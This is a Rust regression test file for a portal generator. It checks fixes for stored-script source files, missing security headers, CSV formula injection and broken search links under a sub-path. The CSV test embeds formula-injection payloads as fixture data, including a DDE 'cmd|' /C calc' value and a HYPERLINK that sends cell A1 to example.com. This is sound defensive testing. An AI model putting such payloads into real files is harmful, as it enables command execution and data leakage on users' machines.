//! Regressions: one test per defect found by trying the portal as an attacker and a careless
//! operator would (issue 15), named after the defect, its case a fixture under
//! `tests/fixtures/regressions/<test name>/` where it is a site. docs/reliability.md lists them.

#![allow(clippy::unwrap_used)]

#[allow(unused_imports)]
use crate::support::{TestSite, fixtures, stderr, stdout};

/// Issue 15, item 5: any file under `content/sources/` was published verbatim as `surse/NAME`, so
/// an `.html`, an `.svg` with `onload` or a `.js` (which passes `script-src 'self'`) was stored
/// script on the portal's own origin, and `check` said nothing. Only `.txt` is accepted, and the
/// hosts are told to serve `surse/` as plain text that no browser sniffs into HTML.
#[test]
fn sources_a_browser_could_run_are_refused() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/sources_a_browser_could_run_are_refused"));
    let output = site.run(&["check"]);
    let hint = "  = help: sources are published as plain text: save the text as UTF-8 in a `.txt` file; a browser could run or render any other type as part of the portal\n";
    let expected: String = ["html", "js", "svg"]
        .iter()
        .map(|ext| {
            format!(
                "error: the source file `evil.{ext}` is not a `.txt` file\n --> content/sources/evil.{ext}\n{hint}\n"
            )
        })
        .collect::<String>()
        + "3 errors\n";
    assert_eq!(stderr(&output), expected);
    assert_eq!(output.status.code(), Some(1));

    // The sources that are accepted are published as .txt, and `_headers` serves them as plain
    // text, never sniffed.
    let clean = TestSite::minimal();
    assert!(clean.run(&["build", "--quiet"]).status.success());
    let published: Vec<String> = std::fs::read_dir(clean.root().join("public/surse"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(!published.is_empty() && published.iter().all(|n| n.ends_with(".txt")), "{published:?}");
    let headers = clean.read("public/_headers");
    assert!(headers.contains("/surse/*\n  Content-Type: text/plain; charset=utf-8\n"), "{headers}");
    assert!(headers.contains("/*\n") && headers.contains("  X-Content-Type-Options: nosniff\n"), "{headers}");
}

/// Issue 15, item 6: the Content-Security-Policy existed only as a `<meta>` in the page template,
/// so files that are not pages (sources, data, the search bundle) carried none, and no other
/// security header reached any host. The build now writes `_headers` (Netlify, Cloudflare Pages)
/// from `headers::SECURITY_HEADERS`, `docs/hosting.md` gives the same headers for nginx and
/// Apache, and the `<meta>` policy of every page is the one of `headers.rs`.
#[test]
fn security_headers_are_shipped_for_hosts_not_only_as_meta() {
    use planportal::headers::{CONTENT_SECURITY_POLICY, SECURITY_HEADERS};
    let site = TestSite::minimal();
    assert!(site.run(&["build", "--quiet"]).status.success());
    let headers = site.read("public/_headers");
    let every_path: String = SECURITY_HEADERS.iter().map(|(name, value)| format!("  {name}: {value}\n")).collect();
    assert!(headers.starts_with(&format!("/*\n{every_path}")), "{headers}");

    let docs = std::fs::read_to_string(crate::support::repo().join("docs/hosting.md")).unwrap();
    for (name, value) in SECURITY_HEADERS {
        assert!(docs.contains(&format!("add_header {name} \"{value}\" always;")), "nginx lacks {name}");
        assert!(docs.contains(&format!("Header always set {name} \"{value}\"")), "Apache lacks {name}");
    }

    let selector = scraper::Selector::parse(r#"meta[http-equiv="Content-Security-Policy"]"#).unwrap();
    let mut pages = 0;
    for entry in walkdir::WalkDir::new(site.root().join("public")) {
        let entry = entry.unwrap();
        if entry.path().extension().is_some_and(|e| e == "html") {
            let html = scraper::Html::parse_document(&std::fs::read_to_string(entry.path()).unwrap());
            let policies: Vec<&str> = html.select(&selector).filter_map(|m| m.value().attr("content")).collect();
            assert_eq!(policies, [CONTENT_SECURITY_POLICY], "{}", entry.path().display());
            pages += 1;
        }
    }
    assert!(pages > 10, "only {pages} pages");
}

/// Issue 15, item 7: a CSV cell whose text starts with `=`, `+`, `-` or `@` (or tab, CR) is
/// evaluated as a formula when a journalist opens the download in a spreadsheet. Every such cell
/// of every CSV now starts with an apostrophe (OWASP's rule), the data package says so, and the
/// JSON keeps the exact text.
#[test]
fn csv_cells_that_start_a_formula_are_neutralised() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/csv_cells_that_start_a_formula_are_neutralised"));
    assert!(site.run(&["build", "--quiet"]).status.success());
    let formula = |cell: &str| cell.trim_start().starts_with(['=', '+', '-', '@', '\t', '\r', '\0']);
    let mut csv_files = 0;
    for entry in walkdir::WalkDir::new(site.root().join("public/date")) {
        let entry = entry.unwrap();
        if entry.path().extension().is_none_or(|e| e != "csv") {
            continue;
        }
        csv_files += 1;
        let bytes = std::fs::read(entry.path()).unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(!formula(cell), "{}: a cell starts a formula: {cell:?}", entry.path().display());
            }
        }
    }
    assert!(csv_files >= 5, "only {csv_files} CSV files");

    let activities = site.read("public/date/activitati.csv");
    let mut reader = csv::Reader::from_reader(activities.trim_start_matches('\u{feff}').as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    let cells: Vec<&str> = row.iter().collect();
    assert_eq!(
        cells[1..16],
        [
            r#"'=HYPERLINK("http://example.com/?"&A1,"clic")"#,
            "plan-droguri",
            "Acțiune strategică I REDUCEREA CERERII DE DROGURI",
            "'+40 de școli incluse în program",
            "'-Dezvoltarea intervențiilor de prevenire",
            "og-1-os1-m1",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'- ; - 2024",
            "'-2022",
            "'+anual",
            "Centrul Regional de Prevenire, Evaluare și Consiliere Antidrog Cluj ; Direcția de Sănătate Publică Cluj ; Autoritățile administrației publice locale",
            "",
            "'=1+1",
            "sna/prevenire-universala",
            "",
        ]
    );

    let json: serde_json::Value = serde_json::from_str(&site.read("public/date/planuri.json")).unwrap();
    let plan = &json["plans"][0];
    assert_eq!(plan["title"], r#"=HYPERLINK("http://example.com/?"&A1,"clic")"#);
    let activity = &plan["objectives"][0]["activities"][0];
    assert_eq!(activity["text"], "@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(activity["indicators"], serde_json::json!(["-", "- 2024"]));
    assert_eq!(activity["funding"], serde_json::json!(["=1+1"]));

    let package: serde_json::Value = serde_json::from_str(&site.read("public/date/datapackage.json")).unwrap();
    let description = package["description"].as_str().unwrap();
    assert!(description.contains("apostrof"), "{description}");
}

/// Issue 15, item 15: with `base_url = https://example.ro/portal/` every search result linked
/// to `/portal/portal/…`: the index stored URLs with the base path and Pagefind, which prefixes
/// the folder it was loaded from, added it again. Each URL stored in the index, resolved as
/// Pagefind resolves it in the browser, must name a page of the site, under `/portal/` once.
#[test]
fn search_results_under_a_sub_path_carry_the_base_path_once() {
    use std::io::Read;
    let site = TestSite::minimal();
    site.write("config.toml", "title = \"Portal de test\"\nbase_url = \"https://example.ro/portal/\"\n");
    let built = std::process::Command::new(env!("CARGO_BIN_EXE_planportal"))
        .args(["build", "--quiet", "--root"])
        .arg(site.root())
        // Several shards, so that the merged ones are checked too.
        .env("PLANPORTAL_SHARD_RECORDS", "5")
        .output()
        .unwrap();
    assert!(built.status.success(), "{}", stderr(&built));
    let public = site.root().join("public");
    let mut urls = Vec::new();
    for entry in walkdir::WalkDir::new(public.join("pagefind")) {
        let entry = entry.unwrap();
        if entry.path().extension().is_some_and(|e| e == "pf_fragment") {
            let mut text = String::new();
            flate2::read::GzDecoder::new(std::fs::File::open(entry.path()).unwrap()).read_to_string(&mut text).unwrap();
            let fragment: serde_json::Value = serde_json::from_str(text.strip_prefix("pagefind_dcd").unwrap()).unwrap();
            urls.push(fragment["url"].as_str().unwrap().to_owned());
        }
    }
    assert!(urls.len() >= 8, "only {} records", urls.len());
    for url in urls {
        // Pagefind's `fullUrl`: the base URL it is given (search.js passes the base path), a
        // slash, the stored URL, with runs of slashes collapsed.
        let mut full = format!("/portal//{url}");
        while full.contains("//") {
            full = full.replace("//", "/");
        }
        let path = full.split('#').next().unwrap();
        let inside = path.strip_prefix("/portal/").unwrap_or_else(|| panic!("{url} leads outside /portal/"));
        let file =
            if inside.is_empty() || inside.ends_with('/') { format!("{inside}index.html") } else { inside.into() };
        assert!(public.join(&file).is_file(), "the search result {url} leads to {full}, which does not exist");
    }
}
